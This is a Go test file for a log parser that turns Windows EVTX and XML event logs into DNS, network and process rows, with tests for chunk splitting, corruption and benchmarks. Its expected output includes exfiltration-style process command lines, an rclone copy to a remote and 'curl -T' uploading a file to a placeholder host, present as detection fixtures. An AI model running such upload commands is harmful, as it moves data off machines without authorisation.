package logs

import (
	"bytes"
	"compress/gzip"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	gocmp "github.com/google/go-cmp/cmp"
	"golang.org/x/tools/txtar"

	"outflow/columnar"
	"outflow/columnar/evtx"
)

// evtxSample returns the file that the tests of package evtx write: a header and
// a chunk of five events.
func evtxSample(t testing.TB) []byte {
	t.Helper()
	in, err := os.ReadFile("../evtx/testdata/sample.evtx")
	if err != nil {
		t.Fatal(err)
	}
	return in
}

// wholeChunk returns the chunk of the sample with the zeros at its end.
func wholeChunk(sample []byte) []byte {
	c := make([]byte, evtx.ChunkSize)
	copy(c, sample[evtx.HeaderSize:])
	return c
}

// If this fails, the events of a binary log do not become rows, or become wrong rows.
func TestEVTX(t *testing.T) {
	in := evtxSample(t)
	if got := sniffed(in); got != "evtx" {
		t.Errorf("sniff: got %s", got)
	}
	if got := sniffed(in[evtx.HeaderSize:]); got != "evtx" {
		t.Errorf("sniff a chunk: got %s", got)
	}
	c := &logCase{format: EVTX}
	c.options.Want = ^c.options.Want
	r := c.run(in, wholeBlock)
	if err := r.check(); err != nil {
		t.Error(err)
	}
	const want = `-- want.dns --
time,user,host,query,domain,rcode,answers_len
2026-03-20T09:46:41Z,CORP\ann,ws7.corp.example,files.example,files.example,NOERROR,2
-- want.network --
time,user,src_ip,host,dst_ip,dst_host,dst_port,protocol
2026-03-20T09:46:40Z,CORP\ann,fe80::1,ws7.corp.example,203.0.113.9,files.example,443,tcp
-- want.process --
time,user,host,path,internal_name,cmd_line,parent_path,pid,description,hashes
2026-03-20T09:46:39.123Z,CORP\ann,ws7.corp.example,C:\Tools\rclone.exe,rclone.exe,"rclone.exe copy ""C:\Größe"" remote:x",C:\Windows\System32\cmd.exe,4242,Rsync for cloud storage,SHA256=00FF
2026-03-20T09:46:43Z,CORP\ann,ws7.corp.example,C:\Windows\System32\curl.exe,,curl -T x https://files.example,C:\Windows\System32\cmd.exe,7540,,
-- tally --
records 5 rows 4 other 1 skipped 0
kind Windows PowerShell 400 1
`
	if diff := gocmp.Diff(want, string(txtar.Format(&txtar.Archive{Files: r.files()}))); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
}

// If this fails, rows depend on how a log arrives.
func TestEVTXIsCutAnyhow(t *testing.T) {
	sample := evtxSample(t)
	in := slices.Clone(sample[:evtx.HeaderSize])
	for range 40 {
		in = append(in, wholeChunk(sample)...)
	}
	in = append(in, "junk between chunks"...)
	in = append(in, sample...) // another log
	c := &logCase{format: EVTX}
	c.options.Want = ^c.options.Want
	want := c.run(in, wholeBlock)
	if tally := want.tally; tally.Rows != 41*4 || tally.Skipped != 1 {
		t.Fatalf("got %+v, want the rows of 41 chunks and 1 skipped", tally)
	}
	for _, size := range []int{1, 5000, evtx.ChunkSize, 1 << 20} {
		got := c.run(in, size)
		if err := got.check(); err != nil {
			t.Errorf("blocks of %d bytes: %v", size, err)
		}
		if diff := difference(want, got); diff != "" {
			t.Errorf("blocks of %d bytes (-whole +cut):\n%.2000s", size, diff)
		}
	}
	for name, stored := range map[string][]byte{"gzip": gzipped(t, string(in)), "zip": zipped(t, map[string][]byte{"Security.evtx": in})} {
		var records int64
		for _, m := range Read(object("log", stored), &ReadOptions{}, func(m *Member, b *Block) error {
			var tally Tally
			d, err := m.Format.New(m.Options)
			if err != nil {
				return err
			}
			r := &result{}
			out := r.collect()
			if err := b.Decode(d, out, &tally); err != nil {
				return err
			}
			out.Flush()
			records += r.rows
			return nil
		}) {
			if m.Err != nil || m.Format != EVTX {
				t.Errorf("%s: %v, format %v", name, m.Err, m.Format)
			}
		}
		if records != want.rows {
			t.Errorf("%s: got %d rows, want %d", name, records, want.rows)
		}
	}
}

// If this fails, damage is not counted, or costs sound events.
func TestEVTXDamage(t *testing.T) {
	sample := evtxSample(t)
	const chunk = evtx.HeaderSize
	second := bytes.Index(sample[chunk+512+8:], []byte("**\x00\x00")) + chunk + 512 + 8
	tests := []struct {
		name  string
		hurt  func(f []byte) []byte
		tally string
	}{
		{"a wrong checksum", func(f []byte) []byte { f[chunk+52] ^= 1; f[chunk+124] ^= 1; return f },
			"records 6 rows 4 other 1 skipped 1\nkind Windows PowerShell 400 1\nchunk does not match its checksum (1, first at record 1)\n"},
		{"a wrong checksum in a file that is open", func(f []byte) []byte { f[120] |= 1; f[chunk+124] ^= 1; return f },
			"records 5 rows 4 other 1 skipped 0\nkind Windows PowerShell 400 1\n"},
		{"a broken record", func(f []byte) []byte { f[second] = 'x'; return f },
			"records 6 rows 3 other 1 skipped 2\nkind Windows PowerShell 400 1\nchunk does not match its checksum (1, first at record 1)\ndamaged record (1, first at record 2)\n"},
		{"an event without Event", func(f []byte) []byte {
			// Its name is in the template that all share.
			at := bytes.Index(f, []byte("E\x00v\x00e\x00n\x00t\x00\x00\x00"))
			f[at] = 'e'
			f[120] |= 1
			return f
		}, "records 5 rows 0 other 0 skipped 5\nno Event element (5, first at record 1)\n"},
		{"the end", func(f []byte) []byte { return f[:len(f)-50] },
			"records 6 rows 4 other 0 skipped 2\nchunk is cut off (1, first at record 1)\ndamaged record (1, first at record 5)\n"},
		{"nothing but a header", func(f []byte) []byte { return f[:chunk] }, "records 0 rows 0 other 0 skipped 0\n"},
		{"half a header", func(f []byte) []byte { return f[:100] }, "records 0 rows 0 other 0 skipped 0\n"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			c := &logCase{format: EVTX}
			c.options.Want = ^c.options.Want
			r := c.run(test.hurt(bytes.Clone(sample)), wholeBlock)
			if err := r.check(); err != nil {
				t.Error(err)
			}
			files := r.files()
			if got := string(files[len(files)-1].Data); got != test.tally {
				t.Errorf("got %s\nwant %s", got, test.tally)
			}
		})
	}
}

// Real logs, if there are any. The events must give the same rows in binary form and as
// XML that another program made of them.
func TestEVTXIsAsXML(t *testing.T) {
	dir := os.Getenv("OUTFLOW_DATA")
	if dir == "" {
		t.Skip("OUTFLOW_DATA names no folder of logs")
	}
	files, err := filepath.Glob(filepath.Join(dir, "evtx-attack-samples", "*_evtxexport.xml.gz"))
	if err != nil || len(files) == 0 {
		t.Fatalf("no exported logs: %v", err)
	}
	for _, name := range files {
		stored, err := os.Open(name)
		if err != nil {
			t.Fatal(err)
		}
		z, err := gzip.NewReader(stored)
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(z)
		if err != nil {
			t.Fatal(err)
		}
		in, err := os.ReadFile(strings.Replace(name, "_evtxexport.xml.gz", ".evtx", 1))
		if err != nil {
			t.Fatal(err)
		}
		binary, xml := &logCase{format: EVTX}, &logCase{format: WinXML}
		binary.options.Want, xml.options.Want = ^binary.options.Want, ^xml.options.Want
		if diff := difference(binary.run(in, wholeBlock), xml.run(text, wholeBlock)); diff != "" {
			t.Errorf("%s (-binary +XML):\n%s", filepath.Base(name), diff)
		}
	}
}

// If this fails, long stretches of a syslog without events are taken for a record
// that is too long.
func TestWinXMLCut(t *testing.T) {
	const event = "<Event><System></System></Event>"
	for _, test := range []struct {
		in      string
		all     bool
		end     int
		records int64
	}{
		{"Mar 20 09:46:40 web3 sshd: x\nMar 20", false, 29, 0},
		{"Mar 20 09:46:40 web3 sshd: x\nMar 20", true, 35, 0},
		{"Mar 20 09:46:40 web3 sysmon: <Event><System>\nx", false, 0, 0},
		{"Mar 20 09:46:40 web3 sysmon: <Event><System>\nx", true, 46, 1},
		{event + "\n" + event + "\nx\n", false, 2*len(event) + 1, 2},
		{event[:20] + "\n" + event, false, len(event) + 21, 2},
		{"x" + event[10:] + event, false, 2*len(event) - 9, 2},
	} {
		if end, records := WinXML.Cut([]byte(test.in), test.all); end != test.end || records != test.records {
			t.Errorf("%q, all %v: got %d, %d records, want %d, %d", test.in, test.all, end, records, test.end, test.records)
		}
	}
}

func BenchmarkDecodeEVTX(b *testing.B) {
	sample := evtxSample(b)
	chunk := sample[evtx.HeaderSize:] // five events, without the zeros behind them
	benchmarkEvents(b, EVTX, chunk, 5)
}

func BenchmarkDecodeWinXML(b *testing.B) {
	c, err := readCase("testdata/winxml_events.txtar")
	if err != nil {
		b.Fatal(err)
	}
	benchmarkEvents(b, WinXML, c.in, 13)
}

func BenchmarkDecodeWinJSON(b *testing.B) {
	for _, name := range []string{"winlogbeat", "nxlog", "evtx"} {
		b.Run(name, func(b *testing.B) {
			c, err := readCase("testdata/winjson_" + name + ".txtar")
			if err != nil {
				b.Fatal(err)
			}
			benchmarkEvents(b, WinJSON, c.in, bytes.Count(c.in, eol))
		})
	}
}

// benchmarkEvents decodes one block again and again.
func benchmarkEvents(b *testing.B, format *Format, in []byte, events int) {
	d, err := format.New(&Options{})
	if err != nil {
		b.Fatal(err)
	}
	r := &result{}
	out := r.collect()
	out.Sink = func(*columnar.Batch) {}
	b.SetBytes(int64(len(in)))
	b.ReportAllocs()
	for b.Loop() {
		if err := d.Decode(&Block{Data: in, First: 1}, out, &Tally{}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(events)*float64(b.N)/b.Elapsed().Seconds(), "events/s")
}
